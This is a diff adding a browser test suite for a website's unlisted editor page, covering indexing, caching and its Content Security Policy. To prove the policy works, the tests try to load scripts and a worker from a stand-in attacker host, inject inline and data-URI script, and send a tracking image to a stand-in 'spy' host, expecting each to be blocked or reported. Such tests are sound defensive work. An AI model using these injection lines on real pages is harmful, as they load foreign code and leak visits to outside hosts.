@@ -1,0 +1,132 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { beforeAll, describe, expect, inject, test } from 'vitest';
+import { ATELIER_ASSETS, ATELIER_FOLDER } from '../../publish/atelier/atelierPages';
+import { CSP } from '../../publish/headers/headerRules';
+import { readHeadersFile } from '../../publish/headers/hostFiles';
+import { browserPerWorker } from '../browser/browserPerWorker';
+import { watchPolicy } from '../browser/policyWatch';
+import { TESTED_CONTENT } from '../projectCopy';
+import { bytesOf, FOLDER_BUTTON, type LocalAtelier, openLocalAtelier } from './localFolder';
+
+const { newPage } = browserPerWorker({ closing: 'with the file' });
+const read = (file: string) => readFileSync(join(inject('siteFolder'), file), 'utf8');
+const NAMES_IT = new RegExp(`/${ATELIER_FOLDER}(?:/|["?#]|$)`, 'm');
+
+describe('what is published of the editor', () => {
+  test('no page, list or script of the site names it', () => {
+    const naming = readdirSync(inject('siteFolder'), { recursive: true, encoding: 'utf8' })
+      .filter((file) => /\.(?:html|css|js|xml|txt|json)$/.test(file))
+      .filter((file) => !file.startsWith(ATELIER_FOLDER) && file !== 'vercel.json')
+      // The version names every file.
+      .filter((file) => file !== 'version.json')
+      .filter((file) => NAMES_IT.test(read(file)));
+    expect(naming).toEqual([]);
+  });
+
+  test('search engines are kept away by the page and by its headers', async () => {
+    expect(read(`${ATELIER_FOLDER}/index.html`)).toContain(
+      '<meta name="robots" content="noindex, nofollow"/>',
+    );
+    const { headers } = await fetch(`${inject('siteUrl')}/${ATELIER_FOLDER}/`);
+    expect(headers.get('x-robots-tag')).toBe('noindex, nofollow');
+  });
+
+  test('one rule alone has a policy, for hosts join what several rules say of a file', () => {
+    const rules = readHeadersFile(read('_headers'));
+    expect(rules.filter(({ headers }) => headers[CSP]).map(({ path }) => path)).toEqual(['/*']);
+  });
+
+  test('its files are cached for ever, and come compressed, the largest too', async () => {
+    const files = readdirSync(join(inject('siteFolder'), ATELIER_ASSETS));
+    const script = files.find((file) => file.startsWith('room-'));
+    const { headers } = await fetch(`${inject('siteUrl')}/${ATELIER_ASSETS}/${script}`, {
+      headers: { 'accept-encoding': 'br' },
+    });
+    expect(headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
+    expect(headers.get('content-encoding')).toBe('br');
+  });
+});
+
+describe('the open editor', () => {
+  let page: Page;
+  let refused: readonly string[];
+  let room: LocalAtelier;
+  beforeAll(async () => {
+    const phone = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };
+    page = await newPage({ locale: 'fr-FR', ...phone });
+    refused = await watchPolicy(page);
+    await page.goto('/atelier/');
+    await page.getByRole('button', { name: FOLDER_BUTTON }).waitFor();
+  });
+
+  test('begins no script or worker of elsewhere', async () => {
+    const outcomes = await page.evaluate(() => {
+      const tried = (act: () => unknown) => {
+        try {
+          act();
+          return 'done';
+        } catch (error) {
+          return error instanceof TypeError ? 'refused' : String(error);
+        }
+      };
+      const script = document.createElement('script');
+      return [
+        tried(() => Object.assign(script, { src: 'https://attacker.example/a.js' })),
+        tried(() => Object.assign(script, { src: 'data:text/javascript,alert(1)' })),
+        tried(() => Object.assign(script, { text: 'document.title = "attacked"' })),
+        tried(() => new Worker('https://attacker.example/a.js')),
+        tried(() => Object.assign(script, { src: '/atelier/assets/of-here.js' })),
+      ];
+    });
+    expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused', 'done']);
+  });
+
+  test('draws every icon, as no word', async () => {
+    room = await openLocalAtelier(page, TESTED_CONTENT);
+    await page.evaluate(() => document.fonts.ready.then(() => undefined));
+    expect(await wordsOfIcons(page)).toEqual([]);
+    await room.open('offres', 'essentiel');
+    expect(await wordsOfIcons(page)).toEqual([]);
+  });
+
+  test('takes a PDF, and its policy refuses nothing but what is of elsewhere', async () => {
+    const before = refused.length;
+    await page.evaluate(() => {
+      location.hash = '#/assets/content/fichiers';
+    });
+    const asked = page.waitForEvent('filechooser');
+    await page.getByRole('button', { name: 'Déposer de nouveaux fichiers' }).click();
+    const brochure = readFileSync(`${TESTED_CONTENT}/fichiers/brochure.pdf`);
+    const pdf = { name: 'Tarifs été 2026.pdf', mimeType: 'application/pdf', buffer: brochure };
+    await (await asked).setFiles(pdf);
+    await page.getByRole('button', { name: 'Déposer', exact: true }).click();
+    const size = () =>
+      bytesOf(page, 'content/fichiers/tarifs-ete-2026.pdf').then(
+        ({ length }) => length,
+        () => 0,
+      );
+    await expect.poll(size).toBe(brochure.length);
+    expect(refused.slice(before)).toEqual([]);
+    await page.evaluate(() => {
+      new Image().src = 'https://ailleurs.example/espion.png';
+    });
+    await expect.poll(() => refused.slice(before).join()).toContain('img-src https://ailleurs');
+  });
+});
+
+/** The icons that are wider than one: their font was not there. */
+function wordsOfIcons(page: Page): Promise<(string | null)[]> {
+  return page.locator('.material-symbols-outlined').evaluateAll((icons) =>
+    icons
+      .filter((icon) => icon.textContent?.trim() && icon.getClientRects().length > 0)
+      .filter((icon) => {
+        const range = document.createRange();
+        range.selectNodeContents(icon);
+        const { fontSize } = getComputedStyle(icon);
+        return range.getBoundingClientRect().width > Number.parseFloat(fontSize) * 1.2;
+      })
+      .map((icon) => icon.textContent),
+  );
+}
